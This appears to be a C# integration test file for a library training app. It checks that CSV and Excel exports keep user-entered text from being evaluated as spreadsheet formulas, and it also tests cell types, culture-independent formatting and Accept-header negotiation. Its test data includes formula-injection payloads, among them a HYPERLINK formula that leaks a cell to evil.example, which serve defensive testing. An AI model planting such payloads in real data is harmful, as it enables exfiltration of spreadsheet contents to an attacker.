using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Text.Json;
using System.Text.RegularExpressions;
using EnSakITaget.Api.IntegrationTests.Courses;
using EnSakITaget.Api.IntegrationTests.Libraries;
using EnSakITaget.Application.Courses;
using EnSakITaget.Application.Participants;
using EnSakITaget.Domain.Feedback;
using EnSakITaget.Domain.Identity;
using static EnSakITaget.Api.IntegrationTests.Common.SpreadsheetFiles;

namespace EnSakITaget.Api.IntegrationTests.Common;

/// <summary>Every export, as CSV and as an Excel workbook: what a spreadsheet makes of what people wrote, and of the figures.</summary>
public sealed partial class SpreadsheetExportTests(ApiFactory factory) : ApiTest(factory)
{
    private static readonly Guid Overall = new("c0ffee00-0000-4000-8000-000000000002");
    private static readonly Guid Format = new("c0ffee00-0000-4000-8000-000000000003");

    /// <summary>The characters that make a spreadsheet evaluate a cell. The API trims what it stores, so behind a tab or a carriage return comes a formula.</summary>
    private static readonly string[] Triggers = ["=", "+", "-", "@", "\t", "\r"];

    /// <summary>What an attacker writes in a field, as it is stored (trimmed).</summary>
    private static string Hostile(string trigger, string what) => (trigger switch
    {
        "=" => $"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"{what}\")",
        "+" => $"+1+1 {what}",
        "-" => $"-1+1 {what}",
        "@" => $"@SUM(1,1) {what}",
        _ => $"{trigger}=1+1 {what}",
    }).Trim();

    private sealed record World(Guid RoundId, Guid CourseId, string UnitName, string RoundTitle, string[] ThingTitles, string[] Names, string[] Answers, string[] QuestionTexts)
    {
        public string RoundUrl => $"/api/v1/rounds/{RoundId}";

        public string[] Exports =>
        [
            $"{RoundUrl}/survey/summary", $"/api/v1/courses/{CourseId}/survey/summary", "/api/v1/statistics/libraries?pageSize=100",
            $"/api/v1/statistics/rounds/{RoundId}", $"{RoundUrl}/progress?pageSize=100",
        ];
    }

    /// <summary>
    /// A course, its things, a round, a unit, staff, reflections, survey questions and answers, each
    /// written by someone who begins it with = + - @ a tab or a carriage return; the survey is named.
    /// </summary>
    private async Task<World> HostileWorldAsync()
    {
        var (county, varnamo, _) = await Client.CreateSmallTreeAsync();
        var unitName = Hostile("@", "filial");
        var unit = await Client.CreateUnitAsync(varnamo.Id, "Branch", unitName, 8);
        var course = await (await Client.PostJsonAsync("/api/v1/courses", new { countyId = county.Id, title = Hostile("=", "kurs"), language = "sv" }))
            .ShouldBeAsync<CourseDto>(HttpStatusCode.Created);
        var thingTitles = Triggers.Select(t => Hostile(t, "sak")).ToArray();
        foreach (var title in thingTitles)
        {
            (await Client.PostJsonAsync($"/api/v1/courses/{course.Id}/things", new { title, estimatedMinutes = 45, reportPrompt = Hostile("-", "fråga") }))
                .StatusCode.ShouldBe(HttpStatusCode.Created);
        }

        (await Client.PostAsync($"/api/v1/courses/{course.Id}/publish", null)).StatusCode.ShouldBe(HttpStatusCode.OK);
        Factory.Clock.SetLocal(new DateOnly(2010, 2, 1));
        var roundTitle = Hostile("+", "omgång");
        var round = await (await Client.PostJsonAsync("/api/v1/rounds", new
            {
                courseId = course.Id, homeLibraryId = varnamo.Id, title = roundTitle,
                kickOff = ReportRound.KickOff, deadline = ReportRound.Deadline, workAheadAllowed = true,
            }))
            .ShouldBeAsync<RoundDto>(HttpStatusCode.Created);
        var url = $"/api/v1/rounds/{round.Id}";
        (await Client.PutJsonAsync($"{url}/schedule", new { mode = "Cadence", everyWeeks = 3 })).StatusCode.ShouldBe(HttpStatusCode.OK);
        var questionTexts = new[] { Hostile("=", "betyg"), Hostile("+", "val"), Hostile("@", "fritext") };
        (await Client.PutJsonAsync($"{url}/survey", new
        {
            isAnonymous = false,
            opensWhen = "RoundClosed",
            questions = new object[]
            {
                new { id = Overall, kind = "Rating", isSelfAssessment = true, textSv = questionTexts[0], textEn = Hostile("-", "rating") },
                new
                {
                    id = Format, kind = "SingleChoice", textSv = questionTexts[1], textEn = Hostile("\t", "choice"),
                    optionsSv = new[] { Hostile("-", "egen takt"), Hostile("=", "kurstillfällen") }, optionsEn = new[] { "At my own pace", "In sessions" },
                },
                new { id = Survey.WhatWasGood, kind = "FreeText", textSv = questionTexts[2], textEn = Hostile("\r", "free text") },
            },
        })).StatusCode.ShouldBe(HttpStatusCode.OK);
        Factory.Clock.SetLocal(ReportRound.KickOff);
        (await Client.PostAsync($"{url}/open", null)).StatusCode.ShouldBe(HttpStatusCode.OK);
        (await Client.ScheduleOnceAsync(round.Id, s => s.ReleasedCount == 1)).ReleasedCount.ShouldBe(1);
        var things = (await Client.ScheduleAsync(round.Id)).Things;

        var names = new List<string>();
        var participants = new List<HttpClient>();
        for (var i = 0; i < Triggers.Length; i++)
        {
            var email = $"person{i}@bibliotek.example.se";
            var staff = await (await Client.PostJsonAsync("/api/v1/participants", new
                {
                    name = Hostile(Triggers[i], $"Person {i}"), email, unitId = unit.Id, isManager = i == 0, title = Hostile(Triggers[i], "titel"),
                }))
                .ShouldBeAsync<StaffMemberDto>(HttpStatusCode.Created);
            names.Add(staff.Name);
            (await Client.PostJsonAsync($"{url}/enrolments", new { participantIds = new[] { staff.Id } })).StatusCode.ShouldBe(HttpStatusCode.OK);
            participants.Add(await Factory.ClientAsAsync(email, (Role.Participant, unit.Id)));
        }

        for (var i = 0; i < participants.Count; i++)
        {
            for (var position = 1; position <= i + 1; position++)
            {
                (await participants[i].PostJsonAsync($"{url}/things/{things[position - 1].ThingId}/report", new { text = Hostile(Triggers[i], $"reflektion {position}") }))
                    .StatusCode.ShouldBe(HttpStatusCode.OK);
            }
        }

        (await Client.PostAsync($"{url}/close", null)).StatusCode.ShouldBe(HttpStatusCode.OK);
        var answers = new List<string>();
        for (var i = 0; i < participants.Count; i++)
        {
            answers.Add(Hostile(Triggers[i], $"svar {i}"));
            (await participants[i].PostJsonAsync($"{url}/survey/responses", new
            {
                answers = new object[]
                {
                    new { questionId = Overall, rating = (i % 5) + 1 },
                    new { questionId = Format, choice = i % 2 },
                    new { questionId = Survey.WhatWasGood, text = answers[^1] },
                },
            })).StatusCode.ShouldBe(HttpStatusCode.Created);
        }

        return new World(round.Id, course.Id, unitName, roundTitle, thingTitles, [.. names], [.. answers], questionTexts);
    }

    [Fact]
    public async Task Nothing_people_wrote_is_evaluated_by_a_spreadsheet_in_any_csv_or_workbook_export()
    {
        var world = await HostileWorldAsync();

        foreach (var url in world.Exports)
        {
            var csv = CsvLines(await Client.ExportAsync(url, Csv)).SelectMany(line => line).ToList();
            csv.Where(WouldBeEvaluated).ShouldBeEmpty(url);

            var workbook = OpenWorkbook(await Client.ExportAsync(url, Xlsx));
            var cells = workbook.SelectMany(s => s.Cells).ToList();
            cells.ShouldAllBe(c => !c.HasFormula, url);
            cells.Where(c => WouldBeEvaluated(c.Value)).ShouldAllBe(c => c.IsText && c.QuotePrefix, url);
            workbook.SelectMany(s => s.Header).Where(WouldBeEvaluated).ShouldBeEmpty(url);
        }

        // The hostile texts are there, as text: behind an apostrophe in a CSV, as string cells in a workbook.
        await ShouldHoldAsTextAsync(world.Exports[0], [.. world.Answers, .. world.Names, .. world.QuestionTexts]);
        await ShouldHoldAsTextAsync(world.Exports[1], [.. world.Answers, .. world.QuestionTexts]);
        await ShouldHoldAsTextAsync(world.Exports[2], [world.UnitName]);
        await ShouldHoldAsTextAsync(world.Exports[3], [world.RoundTitle, .. world.ThingTitles]);
        await ShouldHoldAsTextAsync(world.Exports[4], world.Names);
        CsvLines(await Client.ExportAsync(world.Exports[1], Csv)).SelectMany(l => l).ShouldNotContain(c => world.Names.Any(n => c.Contains(n, StringComparison.Ordinal)));
    }

    private async Task ShouldHoldAsTextAsync(string url, string[] texts)
    {
        var csv = CsvLines(await Client.ExportAsync(url, Csv)).SelectMany(line => line).ToHashSet();
        var cells = OpenWorkbook(await Client.ExportAsync(url, Xlsx)).SelectMany(s => s.Cells).Where(c => c.IsText).Select(c => c.Value).ToHashSet();
        foreach (var text in texts)
        {
            csv.ShouldContain($"'{text}", $"{url} as CSV");
            cells.ShouldContain(text, $"{url} as a workbook");
        }
    }

    [Fact]
    public async Task A_workbook_has_a_sheet_per_table_and_its_dates_numbers_and_yes_or_no_are_typed_cells()
    {
        var world = await HostileWorldAsync();

        var statistics = OpenWorkbook(await Client.ExportAsync($"/api/v1/statistics/rounds/{world.RoundId}", Xlsx));
        var matrix = OpenWorkbook(await Client.ExportAsync($"{world.RoundUrl}/progress", Xlsx)).Single();
        var libraries = OpenWorkbook(await Client.ExportAsync("/api/v1/statistics/libraries", Xlsx)).Single();
        var summary = OpenWorkbook(await Client.ExportAsync($"{world.RoundUrl}/survey/summary", Xlsx));

        statistics.Select(s => s.Name).ShouldBe(["round", "pace", "things", "spread", "weeklyReports", "feedback"]);
        var things = statistics.Single(s => s.Name == "things");
        things.Rows.Select(r => r["reported"].Number).ShouldBe([6, 5, 4, 3, 2, 1]);
        things.Rows.ShouldAllBe(r => r["position"].IsNumber && r["completionRate"].IsNumber && r["standingAt"].IsNumber);
        things.Rows[0]["releasedAt"].ShouldSatisfyAllConditions(c => c.IsDate.ShouldBeTrue(), c => c.NumberFormat!.ShouldContain("hh:mm"));
        var week = statistics.Single(s => s.Name == "weeklyReports").Rows.Single();
        week["weekStart"].ShouldSatisfyAllConditions(
            c => c.IsDate.ShouldBeTrue(), c => c.NumberFormat.ShouldBe("yyyy-mm-dd"), c => c.Number.ShouldBe(ExcelDay(new DateOnly(2010, 2, 22))));
        week["reports"].Number.ShouldBe(21);
        statistics.Single(s => s.Name == "feedback").Rows.Single()["feedbackResponses"].Number.ShouldBe(6);

        var first = matrix.Rows.Single(r => r["name"].Value == world.Names[0]);
        first["isManager"].ShouldSatisfyAllConditions(c => c.Type.ShouldBe("b"), c => c.Value.ShouldBe("1"));
        first["thingsReported"].Number.ShouldBe(1);
        first["lastActivityAt"].IsDate.ShouldBeTrue();
        matrix.Header.ShouldContain($"1. {world.ThingTitles[0]}");
        first[$"1. {world.ThingTitles[0]}"].Value.ShouldBe("Reported");
        first["1. reported"].ShouldSatisfyAllConditions(c => c.IsDate.ShouldBeTrue(), c => c.Number.ShouldBe(ExcelDay(ReportRound.KickOff)));
        first.ShouldNotContainKey("2. reported");

        libraries.Rows.Single(r => r["name"].Value == world.UnitName).ShouldSatisfyAllConditions(
            r => r["staff"].Number.ShouldBe(8), r => r["coverage"].Number.ShouldBe(0.75), r => r["libraryId"].IsText.ShouldBeTrue());
        summary.Select(s => s.Name).ShouldBe(["summary", "questions", "ratingCounts", "choices", "texts", "selfAssessment"]);
        summary[0].Rows.Single()["isAnonymous"].Type.ShouldBe("b");
        summary.Single(s => s.Name == "ratingCounts").Rows.Select(r => (r["rating"].Number, r["count"].Number)).ShouldBe([(1, 2), (2, 1), (3, 1), (4, 1), (5, 1)]);
    }

    [Theory]
    [InlineData("sv-SE")]
    [InlineData("en-US")]
    public async Task Csv_headers_are_the_json_field_names_and_dates_times_and_numbers_are_the_same_whatever_the_server_s_culture(string culture)
    {
        var world = await HostileWorldAsync();
        // The test server runs each request outside the test's execution context unless told otherwise;
        // this client's requests carry the culture set below into the server.
        Factory.Server.PreserveExecutionContext = true;
        HttpClient client;
        try
        {
            client = await Factory.ClientForAsync(Administrator);
        }
        finally
        {
            Factory.Server.PreserveExecutionContext = false;
        }

        var before = (CultureInfo.CurrentCulture, CultureInfo.CurrentUICulture);
        try
        {
            (CultureInfo.CurrentCulture, CultureInfo.CurrentUICulture) = (new CultureInfo(culture), new CultureInfo(culture));
            using var _ = client;
            foreach (var url in world.Exports)
            {
                var fields = FieldNames(await JsonAsync(client, url));
                var tables = CsvLines(await client.ExportAsync(url, Csv)).Where(l => l.Length > 1).ToList();
                var headers = tables.Where(l => l[0] == "table").Select(l => l.Skip(1)).DefaultIfEmpty(tables[0]).SelectMany(h => h);
                headers.Where(h => !MatrixThingColumn().IsMatch(h)).ShouldAllBe(h => fields.Contains(h), url);
            }

            var libraries = await client.ExportAsync("/api/v1/statistics/libraries?pageSize=100", Csv);
            var libraryJson = (await JsonAsync(client, "/api/v1/statistics/libraries?pageSize=100")).GetProperty("items")[0];
            CsvLines(libraries)[0].ShouldBe([.. libraryJson.EnumerateObject().Select(p => p.Name)]);
            var unit = CsvLines(libraries).Single(l => l[1] == $"'{world.UnitName}");
            unit[Array.IndexOf(CsvLines(libraries)[0], "coverage")].ShouldBe("0.75");

            var statistics = CsvTables(await client.ExportAsync($"/api/v1/statistics/rounds/{world.RoundId}", Csv));
            statistics["weeklyReports"].Single()["weekStart"].ShouldBe("2010-02-22");
            statistics["things"][0]["releasedAt"].ShouldMatch(@"^2010-02-2[23]T\d\d:\d\d:\d\d(\.\d+)?[+-]\d\d:\d\d$");
            statistics["things"][1]["completionRate"].ShouldBe("0.8333");

            var matrix = CsvLines(await client.ExportAsync($"{world.RoundUrl}/progress", Csv));
            var first = matrix.Single(l => l[0] == $"'{world.Names[0]}");
            first[Array.IndexOf(matrix[0], "1. reported")].ShouldBe("2010-02-23");
            first[Array.IndexOf(matrix[0], "isManager")].ShouldBe("true");
        }
        finally
        {
            (CultureInfo.CurrentCulture, CultureInfo.CurrentUICulture) = before;
        }
    }

    [Theory]
    [InlineData("text/csv", "text/csv")]
    [InlineData("application/json, text/csv;q=0.5", "application/json")]
    [InlineData("text/csv;q=0", "application/json")]
    [InlineData("text/html, */*;q=0.8", "application/json")]
    [InlineData("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet, text/csv;q=0.9", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")]
    [InlineData("text/csv, */*", "text/csv")]
    public async Task The_accept_header_chooses_json_csv_or_a_workbook_by_its_quality_values(string accept, string expected)
    {
        await Client.CreateSmallTreeAsync();

        foreach (var url in new[] { "/api/v1/statistics/libraries", "/api/v1/statistics/libraries?pageSize=10" })
        {
            using var request = new HttpRequestMessage(HttpMethod.Get, url);
            request.Headers.TryAddWithoutValidation("Accept", accept);
            var response = await Client.SendAsync(request);

            response.StatusCode.ShouldBe(HttpStatusCode.OK);
            response.Content.Headers.ContentType!.MediaType.ShouldBe(expected);
            response.Headers.Vary.ShouldContain("Accept");
        }
    }

    private static double ExcelDay(DateOnly day) => day.DayNumber - new DateOnly(1899, 12, 30).DayNumber;

    private static async Task<JsonElement> JsonAsync(HttpClient client, string url)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, url);
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("application/json"));
        return await (await client.SendAsync(request)).ShouldBeAsync<JsonElement>(HttpStatusCode.OK);
    }

    /// <summary>Every property name anywhere in the JSON answer.</summary>
    private static HashSet<string> FieldNames(JsonElement element)
    {
        var names = new HashSet<string>(StringComparer.Ordinal);
        void Walk(JsonElement e)
        {
            if (e.ValueKind == JsonValueKind.Object)
            {
                foreach (var property in e.EnumerateObject())
                {
                    names.Add(property.Name);
                    Walk(property.Value);
                }
            }
            else if (e.ValueKind == JsonValueKind.Array)
            {
                foreach (var item in e.EnumerateArray())
                {
                    Walk(item);
                }
            }
        }

        Walk(element);
        // A rating count is the count of a rating: the JSON gives the counts as a list by rating.
        names.Add("rating");
        return names;
    }

    /// <summary>The matrix's two columns per thing: "3. Facebook" and "3. reported".</summary>
    [GeneratedRegex(@"^\d+\. ")]
    private static partial Regex MatrixThingColumn();
}
